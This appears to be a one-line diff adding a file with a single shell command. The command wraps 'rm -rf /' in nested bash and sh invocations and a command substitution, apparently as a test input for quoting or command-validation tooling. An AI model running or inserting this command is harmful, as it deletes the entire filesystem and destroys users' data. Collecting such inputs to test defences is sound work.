@@ -1,0 +1,1 @@
+bash -c "sh -c 'echo \"\$(rm -rf /)\"'"
